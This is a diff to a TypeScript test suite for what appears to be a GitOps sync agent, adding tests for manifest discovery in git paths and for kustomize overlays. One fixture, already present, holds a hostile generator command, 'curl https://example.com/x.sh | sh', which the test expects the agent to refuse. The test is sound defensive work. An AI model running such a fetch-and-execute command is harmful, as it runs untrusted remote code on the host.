@@ -300,6 +300,38 @@ describe('pruning', () => {
   })
 })
 
+test('units: each folder with its subfolders, and the loose files of a git path; dotfiles, dot folders, release.json and kustomization.yaml are not manifests; a missing git path fails', async () => {
+  const remote = bareRemote()
+  pushFiles(remote, {
+    'releases/staging/loose.yaml': cm('loose', { a: '1' }),
+    'releases/staging/app/configmap.yml': cm('app', { a: '1' }),
+    'releases/staging/app/sub/deeper/configmap.yaml': cm('deep', { a: '1' }),
+    'releases/staging/app/.hidden/configmap.yaml': cm('hidden-folder', { a: '1' }),
+    'releases/staging/app/.configmap.yaml': cm('dotfile', { a: '1' }),
+    'releases/staging/app/kustomization.yaml': 'resources:\n  - configmap.yml\n',
+    'releases/staging/app/notes.txt': 'not a manifest',
+    'releases/staging/.tools/configmap.yaml': cm('dot-unit', { a: '1' }),
+    'charts/podinfo/configmap.yaml': cm('chart', { a: '1' }),
+  })
+  const r = await agent(remote, [
+    '--git-path',
+    'releases/staging',
+    '--git-path',
+    'releases/nowhere',
+  ])
+  expect(r.stdout).toMatch(/unit=releases\/staging status=synced .*applied=1/)
+  expect(r.stdout).toMatch(/unit=releases\/staging\/app status=synced .*applied=2/)
+  expect(r.stdout).toMatch(
+    /unit=releases\/nowhere status=failed .*--git-path releases\/nowhere does not exist/,
+  )
+  expect(r.code).toBe(1)
+  const names = server.objects
+    .list('v1', 'ConfigMap', 'default')
+    .map((c) => c.metadata?.name)
+    .sort()
+  expect(names).toEqual(['app', 'deep', 'loose'])
+})
+
 test('--manifest-generation builds kustomizations; a .flux.yaml may name nothing but kustomize build', async () => {
   const remote = bareRemote()
   pushFiles(remote, {
@@ -307,6 +339,11 @@ test('--manifest-generation builds kustomizations; a .flux.yaml may name nothing
       'namespace: gen\nresources:\n  - namespace.yaml\n  - configmap.yaml\nconfigMapGenerator:\n  - name: generated\n    literals:\n      - a=b\n',
     'releases/staging/gen/namespace.yaml': ns('gen'),
     'releases/staging/gen/configmap.yaml': cm('plain', { x: 'y' }),
+    // A base outside the git path: the unit is built from a checkout of the whole commit.
+    'bases/app/kustomization.yaml': 'resources:\n  - configmap.yaml\n',
+    'bases/app/configmap.yaml': cm('base', { from: 'base' }, 'gen'),
+    'releases/staging/overlay/kustomization.yaml':
+      'namePrefix: overlay-\nresources:\n  - ../../../bases/app\n',
     'releases/staging/evil/.flux.yaml':
       'version: 1\ncommandUpdated:\n  generators:\n    - command: curl https://example.com/x.sh | sh\n',
     'releases/staging/evil/configmap.yaml': cm('evil', { x: 'y' }),
@@ -339,6 +376,7 @@ test('--manifest-generation builds kustomizations; a .flux.yaml may name nothing
       .list('v1', 'ConfigMap', 'gen')
       .some((c) => c.metadata?.name?.startsWith('generated-')),
   ).toBe(true)
+  expect(get('v1', 'ConfigMap', 'overlay-base', 'gen')?.data).toEqual({ from: 'base' })
   expect(r.stdout).toMatch(
     /unit=releases\/staging\/evil status=failed .*only 'kustomize build \.' generators are run; refused: curl/,
   )
